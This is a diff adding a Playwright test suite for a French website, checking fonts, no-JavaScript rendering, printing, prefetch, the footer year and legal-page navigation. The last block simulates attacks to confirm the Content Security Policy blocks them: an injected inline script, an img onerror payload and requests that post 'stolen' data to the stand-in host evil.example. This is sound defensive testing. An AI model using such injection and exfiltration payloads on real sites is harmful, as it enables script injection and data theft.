@@ -1,0 +1,145 @@
+import common from '../../locales/fr/common.json' with { type: 'json' };
+import { notFoundNoise, paths } from './paths.ts';
+import { expect, test } from './test.ts';
+
+for (const path of paths) {
+  test.describe(`the page ${path}`, () => {
+    test.use({ expectedNoise: path === '/nowhere' ? [notFoundNoise] : [] });
+
+    test('shows its heading in the site’s font', async ({ page }) => {
+      await page.goto(path);
+      await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
+      const isLoaded = () => document.fonts.check('700 1em "Bricolage Grotesque"');
+      await expect.poll(() => page.evaluate(isLoaded)).toBe(true);
+    });
+
+    test('has the same texts without JavaScript, and a button shows the e-mail address @chromium', async ({
+      page,
+      browser,
+      baseURL,
+    }) => {
+      await page.goto(path);
+      const plain = await browser.newPage({
+        javaScriptEnabled: false,
+        baseURL: baseURL ?? '',
+        locale: 'fr-FR',
+      });
+      await plain.goto(path);
+      const withScript = page.locator('main');
+      await expect(plain.locator('main')).toHaveText(await withScript.innerText(), {
+        useInnerText: true,
+      });
+      await expect(plain.getByRole('contentinfo').getByRole('link', { name: /@/ })).toBeVisible();
+      const direct = plain.getByRole('dialog', { name: common.direct.title });
+      await plain.locator('button[aria-haspopup]:visible').first().click();
+      await expect(direct.getByRole('link', { name: /@/ })).toBeVisible();
+      await direct.getByRole('button', { name: 'Fermer' }).click();
+      await expect(direct).toBeHidden();
+      await plain.close();
+    });
+  });
+}
+
+for (const [path, sheets] of [
+  ['/', 3],
+  ['/hosting', 2],
+  ['/overtime-module', 2],
+] as const) {
+  test(`${path} is printed on ${sheets} A4 sheets @chromium`, async ({ page }) => {
+    await page.goto(path);
+    const paper = await page.pdf({ format: 'A4', preferCSSPageSize: true });
+    expect(paper.toString('latin1').match(/\/Type\s*\/Page\b/g)).toHaveLength(sheets);
+  });
+}
+
+test('the next page is fetched while the pointer is on its link @chromium', async ({ page }) => {
+  await page.goto('/');
+  const prefetched = page
+    .context()
+    .waitForEvent('request', (request) => request.url().endsWith('/cgu'));
+  await page.locator('footer a[href="/cgu"]').hover();
+  expect((await (await prefetched).allHeaders())['sec-purpose']).toBe('prefetch');
+});
+
+test('the footer shows the current year, and never one before the site was built', async ({
+  page,
+}) => {
+  for (const [clock, shown] of [
+    ['2031-02-03', '2031'],
+    ['2001-02-03', String(new Date().getFullYear())],
+  ] as const) {
+    await page.clock.setFixedTime(clock);
+    await page.goto('/');
+    await expect(page.getByRole('contentinfo')).toContainText(`© ${shown}`);
+  }
+});
+
+test('the table of contents of a legal page marks the article that is read, below the header', async ({
+  page,
+}) => {
+  await page.goto('/cgu');
+  const contents = page.getByRole('navigation', { name: 'Sommaire' });
+  await contents.getByRole('link', { name: 'Propriété intellectuelle' }).click();
+  await expect(contents.locator('[aria-current]')).toHaveText('Propriété intellectuelle');
+  const header = await page.getByRole('banner').boundingBox();
+  const heading = await page
+    .getByRole('heading', { name: 'Propriété intellectuelle' })
+    .boundingBox();
+  expect(heading?.y).toBeGreaterThanOrEqual(header?.height ?? Number.NaN);
+  // The last articles cannot scroll to the top.
+  await contents.getByRole('link', { name: 'Modification des CGU' }).click();
+  await expect(contents.locator('[aria-current]')).toHaveText('Modification des CGU');
+});
+
+test.describe('where its script does not come', () => {
+  test.use({ expectedNoise: [/Failed to load resource|toc-/] });
+
+  test('the table of contents leads to its articles, and no error is thrown', async ({ page }) => {
+    await page.route('**/toc-*.js', (route) => route.abort());
+    const failure = page.waitForEvent('requestfailed');
+    await page.goto('/cgu');
+    await failure;
+    const contents = page.getByRole('navigation', { name: 'Sommaire' });
+    await contents.getByRole('link', { name: 'Propriété intellectuelle' }).click();
+    await expect(page.getByRole('heading', { name: 'Propriété intellectuelle' })).toBeInViewport();
+  });
+});
+
+test.describe('an attack on the page', () => {
+  test.use({ expectedNoise: [/Content Security Policy|TrustedHTML|violates|evil\.example/] });
+
+  test('is refused by its policy: an inline script, markup from a script, another site @chromium', async ({
+    page,
+  }) => {
+    await page.route('/deployment', async (route) => {
+      const response = await route.fetch();
+      const planted = '<script>window.planted = 1</script></body>';
+      await route.fulfill({
+        response,
+        body: (await response.text()).replace('</body>', planted),
+      });
+    });
+    const refused: string[] = [];
+    await page.exposeFunction('refuse', (directive: string) => refused.push(directive));
+    await page.addInitScript(() => {
+      const { refuse } = window as unknown as { refuse(directive: string): void };
+      addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
+        refuse(effectiveDirective),
+      );
+    });
+    await page.goto('/deployment');
+    const attacks: (() => unknown)[] = [
+      () => {
+        document.body.innerHTML = '<img src=x onerror="window.planted = 1">';
+      },
+      () => fetch('https://evil.example/', { method: 'POST', body: 'stolen' }),
+      () => Object.assign(new Image(), { src: 'https://evil.example/pixel.png' }).src,
+    ];
+    for (const attack of attacks) {
+      await page.evaluate(attack).catch(() => undefined);
+    }
+    const directives = ['connect-src', 'img-src', 'require-trusted-types-for', 'script-src-elem'];
+    await expect.poll(() => [...new Set(refused)].sort()).toEqual(directives);
+    expect(await page.evaluate(() => 'planted' in window)).toBe(false);
+  });
+});
